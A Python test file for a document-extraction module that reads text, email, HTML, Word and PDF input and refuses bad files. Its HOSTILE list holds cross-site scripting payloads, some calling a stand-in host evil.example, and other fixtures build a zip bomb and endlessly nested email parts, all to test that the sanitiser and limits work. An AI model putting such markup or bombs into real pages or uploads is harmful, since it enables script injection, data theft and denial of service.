import datetime
import io
import zipfile

import pytest
from pypdf import PdfReader, PdfWriter

from eventaudit.messaging.extraction import Attachment, Extracted, ExtractionRefused, extract
from eventaudit.messaging.extraction.html import sanitise

from . import files


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("Tervetuloa! Pöytä on valmis.".encode(), "Tervetuloa! Pöytä on valmis."),
        ("\ufeffPöytä".encode(), "Pöytä"),
        ("Pöytä ja käsiä".encode("cp1252"), "Pöytä ja käsiä"),
        ("Pöytä 🎉".encode("utf-16"), "Pöytä 🎉"),
        ("Pöytä on valmis".encode("utf-16-le"), "Pöytä on valmis"),
        ("Pöytä on valmis".encode("utf-16-be"), "Pöytä on valmis"),
        (b"one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("Po\u0308yta\u0308".encode(), "Pöytä"),
    ],
)
def test_plain_text_in_every_usual_encoding_is_read_the_same(data, text):
    assert extract("a.txt", data) == Extracted(text=text)


def test_markdown_is_kept_as_written():
    assert extract("a.MD", b"# Programme\n\n* 17:30 Arrival\n") == Extracted(
        text="# Programme\n\n* 17:30 Arrival"
    )


def test_an_email_is_read_as_its_reader_sees_it_and_names_what_is_left_out():
    data = files.mail(
        html="<h1>Gala</h1><p>Champagne <b>will</b> be served. Pöytä &amp; tuoli.</p>",
        plain="View this in a browser",
        attachment="menu för gäster.pdf",
        Subject="Kutsu: iltajuhla",
        Date="Fri, 14 Nov 2031 23:30:00 +0200",
    )
    assert extract("a.eml", data) == Extracted(
        text="Gala\n\nChampagne will be served. Pöytä & tuoli.",
        html="<h1>Gala</h1><p>Champagne <b>will</b> be served. Pöytä &amp; tuoli.</p>",
        title="Kutsu: iltajuhla",
        sent_on=datetime.date(2031, 11, 14),
        attachments=(Attachment("menu för gäster.pdf", b"%PDF-1.4"),),
    )


def test_an_email_without_html_gives_its_plain_part_and_one_with_an_unknown_encoding_its_bytes():
    assert (
        extract("a.eml", files.mail(plain="Coats back in five minutes.")).text
        == "Coats back in five minutes."
    )
    odd = b"From: a@b.c\nContent-Type: text/plain; charset=x-made-up\n\nP\xc3\xb6yt\xc3\xa4"
    assert extract("a.eml", odd).text == "Pöytä"


def test_an_email_with_a_broken_date_and_structure_is_still_read():
    odd = b"From: a@b.c\nDate: yesterday-ish\nContent-Type: multipart/mixed; boundary=zz\n\n--zz\n\nHello\n"
    assert extract("a.eml", odd) == Extracted(text="Hello")


@pytest.mark.parametrize(
    "parts",
    [
        "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(1000)),
        "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(2000)),
        "Content-Type: message/rfc822\n\n" * 1200,
        "Content-Type: multipart/mixed; boundary=b\n\n"
        + "--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n" * 10_000,
    ],
    ids=["deep", "deeper", "mails in mails", "attachments"],
)
def test_an_email_of_endless_parts_is_refused(parts):
    with pytest.raises(ExtractionRefused, match="too many parts to be read"):
        extract("mail.eml", f"Subject: Hello\nMIME-Version: 1.0\n{parts}".encode())


def test_a_page_of_titles_never_closed_is_read_at_once():
    """By the square of their number it would take hours."""
    assert extract("page.html", b"<p>Hello</p>" + b"<title</title" * 100_000).title == ""


def test_a_web_page_keeps_its_declared_encoding_title_and_pictures_words():
    page = (
        "<html><head><meta charset='iso-8859-1'><title>Ilta &amp; yö</title></head>"
        "<body><p>Pöytä</p><img alt='Kattokruunu' src=x></body>"
    )
    found = extract("a.html", page.encode("latin-1"))
    assert (found.title, found.text.split()) == ("Ilta & yö", ["Pöytä", "[Kattokruunu]"])


HOSTILE = [
    "<script>steal()</script><p>Dinner</p>",
    '<p onclick="steal()" style="position:fixed">Dinner</p>',
    '<img src=x onerror="steal()"><p>Dinner</p>',
    '<a href="javascript:steal()">Dinner</a>',
    '<a href="data:text/html,steal()">Dinner</a>',
    "<style>p{background:url(//evil.example/steal)}</style><p>Dinner</p>",
    "<iframe srcdoc='<script>steal()</script>'></iframe><p>Dinner</p>",
    "<svg><script>steal()</script></svg><p>Dinner</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></math>Dinner",
    "<form action=//evil.example/steal><input name=q></form><p>Dinner</p>",
    "<object data=steal></object><meta http-equiv=refresh content='0;url=//evil.example/steal'><p>Dinner</p>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript><p>Dinner</p>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_leaves_only_the_words(markup):
    found = extract("a.html", markup.encode())
    assert "steal" not in found.html
    assert "Dinner" in found.text
    assert sanitise(found.html) == found.html


@pytest.mark.parametrize("nested", [b"<div>", b"<table><tr><td>"])
def test_words_deep_inside_other_elements_are_not_lost(nested):
    assert extract("a.html", nested * 240 + b"Dinner").text == "Dinner"


def test_a_word_document_gives_paragraphs_and_tables_in_order():
    data = files.word(
        "Programme", "Pöytä 🎉", table=[["17:30", "Arrival"], ["18:00", "Dinner"]], title="Ilta"
    )
    assert extract("a.docx", data) == Extracted(
        text="Programme\nPöytä 🎉\n17:30 | Arrival\n18:00 | Dinner", title="Ilta"
    )


def test_a_word_document_gives_what_stands_around_its_paragraphs_too():
    data = files.word_letter(
        head="Gala, 14.11.2031", body="Dinner is free*", note="* wine apart", foot="Coats: 3 €"
    )
    assert extract("a.docx", data).text == "Gala, 14.11.2031\n\nDinner is free*\n\n* wine apart\nCoats: 3 €"


def test_what_was_deleted_under_tracked_changes_is_not_read_and_what_was_added_is():
    from docx import Document
    from docx.oxml import parse_xml

    document = Document()
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    paragraph = document.add_paragraph("Doors at ")._p
    paragraph.append(parse_xml(f"<w:del {space}><w:r><w:delText>17:30</w:delText></w:r></w:del>"))
    paragraph.append(parse_xml(f"<w:ins {space}><w:r><w:t>18:00</w:t></w:r></w:ins>"))
    out = io.BytesIO()
    document.save(out)
    assert extract("a.docx", out.getvalue()).text == "Doors at 18:00"


def test_a_pdf_gives_its_text_even_with_an_owners_password():
    assert extract("a.pdf", files.pdf("Coats back", "in five minutes")) == Extracted(
        text="Coats back\nin five minutes"
    )
    assert extract("a.pdf", files.locked_pdf("")).text == "Secret dinner"


@pytest.mark.parametrize(
    ("given", "title"),
    [
        ("Microsoft Word - Kutsu 2031.docx", "Kutsu 2031"),
        ("about:blank", ""),
        ("Untitled", ""),
        ("Dinner 5.12.", "Dinner 5.12."),
    ],
)
def test_the_title_of_a_pdf_is_not_that_of_the_program_that_printed_it(given, title):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf("Dinner"))))
    writer.add_metadata({"/Title": given})
    out = io.BytesIO()
    writer.write(out)
    assert extract("a.pdf", out.getvalue()).title == title


def _bomb() -> bytes:
    out = io.BytesIO(files.word("x"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/big.xml", b"0" * (21 * 1024 * 1024))
    return out.getvalue()


REFUSED = {
    "unknown kind": ("menu.exe", b"MZ\x90", "“menu.exe” is of a kind that cannot be read."),
    "old Word": ("menu.doc", b"\xd0\xcf\x11\xe0", "“menu.doc” is of a kind that cannot be read."),
    "no ending": ("menu", b"Dinner", "“menu” is of a kind that cannot be read."),
    "empty": ("menu.pdf", b"", "“menu.pdf” is empty."),
    "white space only": ("menu.txt", b" \r\n\t ", "“menu.txt” contains no text."),
    "a program as text": ("menu.txt", b"MZ\x90\x00\x03\x00\x00\x00", "The file is no text,"),
    "a program without its mark": ("menu.md", bytes(range(256)) * 20, "The file is no text,"),
    "a picture as page": ("menu.html", b"\x89PNG\r\n\x1a\n0000", "The file is no text,"),
    "a PDF as text": ("menu.txt", files.pdf("Dinner"), "The file is no text,"),
    "a program as PDF": ("menu.pdf", b"MZ\x90\x00", "The file is no PDF,"),
    "a damaged PDF": ("menu.pdf", b"%PDF-1.7\n1 0 obj <<", "The PDF is damaged"),
    "a cut PDF": ("menu.pdf", files.pdf("Dinner")[:200], "The PDF is damaged"),
    "a PDF of pictures": ("menu.pdf", files.pdf(), "The PDF holds pictures only,"),
    "a locked PDF": ("menu.pdf", files.locked_pdf("pass"), "The PDF is protected by a password."),
    "a program as Word": ("menu.docx", b"MZ\x90\x00", "The file is no readable Word document."),
    "a cut Word document": (
        "menu.docx",
        files.word("Dinner")[:2000],
        "The file is no readable Word document.",
    ),
    "a zip as Word": ("menu.docx", _bomb()[:0] + b"PK\x05\x06" + b"\0" * 18, "The file is no readable Word"),
    "a zip bomb": ("menu.docx", _bomb(), "The Word document unpacks to more"),
    "a program as e-mail": ("menu.eml", b"MZ\x90\x00", "The file is no text,"),
    "a text as e-mail": ("menu.eml", b"Dinner at eight", "The file is no e-mail:"),
    "an e-mail without words": ("menu.eml", files.mail(plain=" "), "“menu.eml” contains no text."),
    "too long": ("menu.txt", b"word " * 50_000, "The text has 249,999 characters; at most 200,000"),
    "too deep markup": ("menu.html", b"<div>" * 200_000 + b"x", "The page has too much markup"),
    "too much markup": ("menu.html", b"<i></i>" * 200_000, "The page has too much markup"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_not_taken_is_refused_in_one_sentence_that_says_what_to_do(case):
    name, data, sentence = REFUSED[case]
    with pytest.raises(ExtractionRefused) as refused:
        extract(name, data)
    assert str(refused.value).startswith(sentence)
    assert str(refused.value).endswith(".")
